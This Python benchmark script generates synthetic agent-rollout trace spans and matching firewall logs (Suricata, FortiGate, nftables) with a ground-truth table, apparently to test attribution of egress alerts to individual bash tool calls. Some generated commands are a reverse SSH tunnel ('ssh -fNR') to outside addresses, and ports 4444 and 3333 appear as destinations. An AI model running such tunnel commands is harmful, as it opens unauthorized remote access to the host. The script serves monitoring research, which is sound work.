"""Writes a large job: spans as Parquet, firewall logs, which call caused which line. No code of the product.

    python benchmarks/attribution/scale_job.py OUT --spans 1000000 --alerts 100000

1,024 nodes for ten million spans, in proportion for fewer; eight rollouts at once on each. A rollout is an
``invoke_agent`` and five turns of ``rl.turn``, ``chat``, ``execute_tool`` and ``process``; three of its calls have a
recorded ``egress connect``. Of the lines three fifths are of recorded sockets, a fifth of calls whose socket was not
recorded, a fifth of nobody in the job. Three in ten are objections, the rest ordinary flows. The clock is 37 s off.
"""

from __future__ import annotations

import argparse
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

SECOND = 1_000_000_000
BEGIN = int(datetime(2026, 3, 7, 3, 0, tzinfo=UTC).timestamp()) * SECOND
TURNS, SLOTS, SPANS = 5, 8, 24
RECORDED = (0, 2, 4)
NODES_PER_SPAN = 1024 / 10_000_000
SKEW = 37 * SECOND
CHUNK = 20_000
WORDS = ("python -m pytest -q tests/test_{}.py", "curl -sO https://files.example.org/{}.tgz", "bash run_{}.sh",
         "git clone https://git.example.org/r{}.git", "ls -la src/{}", "python train.py --steps {}")  # fmt: skip
FAR = [f"198.51.{n >> 8}.{n & 255}" for n in range(5000)]

SCHEMA = pa.schema(
    [(name, pa.string()) for name in ("trace_id", "span_id", "parent_id", "name")]
    + [("kind", pa.int8()), ("status", pa.int8()), ("start_ns", pa.int64()), ("end_ns", pa.int64())]
    + [(name, pa.string()) for name in ("run", "group", "rollout", "policy_version", "source", "host", "node_id")]
    + [(name, pa.string()) for name in ("job_id", "actor_id", "actor_name")]
    + [("iteration", pa.int64()), ("turn", pa.int64()), ("host_ips", pa.list_(pa.string()))]
    + [("attributes", pa.map_(pa.string(), pa.string())), ("events", pa.string()), ("links", pa.string())]
)


def identifiers(chance: np.random.Generator, count: int, size: int) -> np.ndarray:
    text = chance.bytes(count * size).hex().encode()
    return np.frombuffer(text, dtype=f"S{2 * size}").astype(f"U{2 * size}").astype(object)


def address(node: int) -> str:
    return f"10.{node >> 8}.{node & 255}.5"


class Job:
    """All calls of the job, as arrays: (rollout, turn)."""

    def __init__(self, spans: int, seed: int) -> None:
        chance = self.chance = np.random.default_rng(seed)
        self.nodes = max(4, round(spans * NODES_PER_SPAN))
        lanes = self.nodes * SLOTS
        each = max(1, round(spans / SPANS / lanes))
        self.rollouts = lanes * each
        shape = (self.rollouts, TURNS)
        self.node = np.repeat(np.arange(self.nodes), SLOTS * each)
        think = chance.integers(SECOND, 8 * SECOND, shape)
        work = chance.integers(SECOND // 2, 15 * SECOND, shape)
        lasting = (think + work).sum(axis=1) + SECOND
        ends = lasting.reshape(lanes, each).cumsum(axis=1)
        self.begin = BEGIN + (ends - lasting.reshape(lanes, each)).ravel()
        self.end = BEGIN + ends.ravel()
        after = (think + work).cumsum(axis=1)
        self.turn_begin = self.begin[:, None] + after - think - work
        self.call_begin = self.begin[:, None] + after - work
        self.call_end = self.begin[:, None] + after
        self.span = identifiers(chance, self.rollouts * TURNS, 8).reshape(shape)
        self.peer = chance.integers(0, len(FAR), shape)
        self.port = chance.integers(32768, 61000, shape)
        self.peer_port = chance.choice([22, 443, 3333, 4444], shape)

    def tables(self) -> Iterator[pa.Table]:
        """Chunk by chunk: never more than a few hundred thousand spans at once."""
        for first in range(0, self.rollouts, CHUNK):
            yield from self._chunk(np.arange(first, min(first + CHUNK, self.rollouts)))

    def _chunk(self, which: np.ndarray) -> list[pa.Table]:
        chance, count = self.chance, len(which)
        trace, root = identifiers(chance, count, 16), identifiers(chance, count, 8)
        node, iteration = self.node[which], (self.begin[which] - BEGIN) // (600 * SECOND)
        hosts = np.array([f"node-{n}" for n in range(self.nodes)], dtype=object)[node]
        about = {
            "trace_id": trace,
            "run": np.full(count, "run-1", dtype=object),
            "group": np.array([f"g{i}-{n % 16}" for i, n in zip(iteration, node, strict=True)], dtype=object),
            "rollout": np.array([f"r{n}" for n in which], dtype=object),
            "policy_version": iteration.astype(str).astype(object),
            "host": hosts,
            "node_id": np.array([f"{n:056x}" for n in node], dtype=object),
            "iteration": iteration,
            "host_ips": np.array([address(n) for n in node], dtype=object),
        }
        score = np.round(chance.random(count), 3)
        made = [_table(about, root, None, "invoke_agent swe", self.begin[which], self.end[which],
                       {"rl.reward.score": score.astype(str).astype(object)})]  # fmt: skip
        for turn in range(TURNS):
            inner = about | {"turn": np.full(count, turn)}
            turn_id, call = identifiers(chance, count, 8), self.span[which, turn]
            begun, ended = self.call_begin[which, turn], self.call_end[which, turn]
            named = self.peer[which, turn]
            words = np.array([
                f"ssh -fNR 22:localhost:22 u@{FAR[p]}" if n % 50 == 0 else WORDS[n % len(WORDS)].format(n)
                for n, p in zip(which + turn, named, strict=True)
            ], dtype=object)  # fmt: skip
            process = identifiers(chance, count, 8)
            made += [
                _table(inner, turn_id, root, "rl.turn", self.turn_begin[which, turn], ended, {}),
                _table(inner, identifiers(chance, count, 8), turn_id, "chat m", self.turn_begin[which, turn], begun,
                       {"gen_ai.usage.output_tokens": np.full(count, "512", dtype=object)}),
                _table(inner, call, turn_id, "execute_tool bash", begun, ended, {
                    "gen_ai.tool.name": np.full(count, "bash", dtype=object),
                    "gen_ai.tool.call.id": call,
                    "gen_ai.tool.call.arguments": '{"command": "' + words + '"}'}),
                _table(inner, process, call, "process bash", begun, ended, {
                    "process.pid": chance.integers(2, 4_000_000, count).astype(str).astype(object),
                    "process.command_line": words}),
            ]  # fmt: skip
            if turn in RECORDED:
                made.append(_table(inner, identifiers(chance, count, 8), process, "egress connect", begun, ended, {
                    "network.transport": np.full(count, "tcp", dtype=object),
                    "network.local.address": about["host_ips"],
                    "network.local.port": self.port[which, turn].astype(str).astype(object),
                    "network.peer.address": np.array(FAR, dtype=object)[named],
                    "network.peer.port": self.peer_port[which, turn].astype(str).astype(object),
                    "ray_guard.egress.decision": np.full(count, "allow", dtype=object)}))  # fmt: skip
        return made


def _table(  # noqa: PLR0917
    about: dict, span: np.ndarray, parent: np.ndarray | None, name: str, start: np.ndarray, end: np.ndarray, said: dict
) -> pa.Table:
    count = len(span)
    values = pa.array(np.stack(list(said.values()), axis=1).ravel() if said else [], pa.string())
    keys = pa.array(list(said) * count, pa.string())
    offsets = pa.array(np.arange(count + 1) * len(said), pa.int32())
    columns = about | {"span_id": span, "parent_id": parent, "start_ns": start, "end_ns": end}
    columns |= {"attributes": pa.MapArray.from_arrays(offsets, keys, values)}
    columns["host_ips"] = pa.ListArray.from_arrays(
        pa.array(np.arange(count + 1), pa.int32()), pa.array(about["host_ips"])
    )
    columns |= {"name": pa.array([name] * count), "source": pa.array(["supervisor"] * count)}
    columns |= {"kind": pa.array(np.full(count, 1), pa.int8()), "status": pa.array(np.zeros(count), pa.int8())}
    made = [columns.get(field.name) for field in SCHEMA]
    return pa.table(
        [pa.nulls(count, f.type) if c is None else c if isinstance(c, pa.Array) else pa.array(c, f.type)
         for c, f in zip(made, SCHEMA, strict=True)], schema=SCHEMA)  # fmt: skip


def lines(job: Job, folder: Path, alerts: int) -> None:
    chance = job.chance
    recorded, lost = alerts * 3 // 5, alerts // 5
    rollout = chance.integers(0, job.rollouts, alerts)
    turn = np.concatenate([chance.choice(RECORDED, recorded), chance.choice([1, 3], alerts - recorded)])
    kind = np.repeat([0, 1, 2], [recorded, lost, alerts - recorded - lost])
    begun, ended = job.call_begin[rollout, turn], job.call_end[rollout, turn]
    moment = begun + (chance.random(alerts) * (ended - begun)).astype(np.int64)
    nobody = kind == 2
    moment[nobody] = BEGIN + (chance.random(nobody.sum()) * (job.end.max() - BEGIN)).astype(np.int64)
    port = np.where(kind == 0, job.port[rollout, turn], chance.integers(32768, 61000, alerts))
    peer = np.where(nobody, chance.integers(0, len(FAR), alerts), job.peer[rollout, turn])
    peer_port, objected = job.peer_port[rollout, turn], chance.random(alerts) < 0.3
    names = ("suricata", "fortigate", "nftables")
    files = [(folder / f"{name}.log").open("w") for name in names]
    truth: dict[str, list] = {name: [] for name in ("path", "byte_offset", "span_id", "at_ns", "ip", "objected")}
    offset = [0, 0, 0]
    for number, n in enumerate(np.argsort(moment, kind="stable")):
        at, which = int(moment[n]) + SKEW, number % 3
        line = _line(names[which], at, address(int(job.node[rollout[n]])), int(port[n]), FAR[peer[n]],
                     int(peer_port[n]), objected=bool(objected[n]))  # fmt: skip
        files[which].write(line)
        truth["path"].append(f"{names[which]}.log")
        truth["byte_offset"].append(offset[which])
        truth["at_ns"].append(int(moment[n]))
        truth["ip"].append(address(int(job.node[rollout[n]])))
        truth["objected"].append(bool(objected[n]))
        truth["span_id"].append(None if nobody[n] else job.span[rollout[n], turn[n]])
        offset[which] += len(line)
    for file in files:
        file.close()
    pq.write_table(pa.table(truth), folder / "truth.parquet")


def _line(kind: str, at: int, ours: str, port: int, far: str, far_port: int, *, objected: bool) -> str:  # noqa: PLR0917
    moment, micro = datetime.fromtimestamp(at // SECOND, UTC), at % SECOND // 1000
    if kind == "suricata":
        event = {
            "timestamp": f"{moment:%Y-%m-%dT%H:%M:%S}.{micro:06d}+0000", "flow_id": at % 10**15, "in_iface": "eth1",
            "event_type": "alert" if objected else "tls", "src_ip": ours, "src_port": port, "dest_ip": far,
            "dest_port": far_port, "proto": "TCP", "pkt_src": "wire/pcap",
        }  # fmt: skip
        if objected:
            event["alert"] = {"action": "allowed", "gid": 1, "signature_id": 2003068, "rev": 7,
                              "signature": "ET POLICY Outbound", "category": "Misc", "severity": 2}  # fmt: skip
        else:
            event["tls"] = {"version": "TLS 1.3", "ja3": {}, "from_proto": "tls"}
        return json.dumps(event, separators=(",", ":")) + "\n"
    if kind == "nftables":
        return (
            f"{moment:%Y-%m-%dT%H:%M:%S}.{micro:06d}+00:00 gw kernel: {'EGRESS-ALERT: ' if objected else ''}"
            f"IN=eth1 OUT=eth0 MAC=02:42:0a:00:00:05:02:42:0a:00:00:01:08:00 SRC={ours} DST={far} LEN=60 TOS=0x00 "
            f"PREC=0x00 TTL=63 ID={at % 65536} DF PROTO=TCP SPT={port} DPT={far_port} WINDOW=64240 SYN URGP=0\n"
        )
    return (
        f'date={moment:%Y-%m-%d} time={moment:%H:%M:%S} devname="fw" devid="FGT60F0000000001" eventtime={at} '
        f'tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip={ours} '
        f'srcport={port} srcintf="port2" dstip={far} dstport={far_port} dstintf="wan1" sessionid={at % 10**9} proto=6 '
        f'action="{"deny" if objected else "accept"}" policyid=12 service="HTTPS" trandisp="noop" sentbyte=1204\n'
    )


def write(folder: Path, spans: int, alerts: int, seed: int) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    job = Job(spans, seed)
    with pq.ParquetWriter(folder / "spans.parquet", SCHEMA, compression="zstd") as out:
        for table in job.tables():
            out.write_table(table)
    lines(job, folder, alerts)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    parser.add_argument("--spans", type=int, default=1_000_000)
    parser.add_argument("--alerts", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    chosen = parser.parse_args()
    write(chosen.out, chosen.spans, chosen.alerts, chosen.seed)
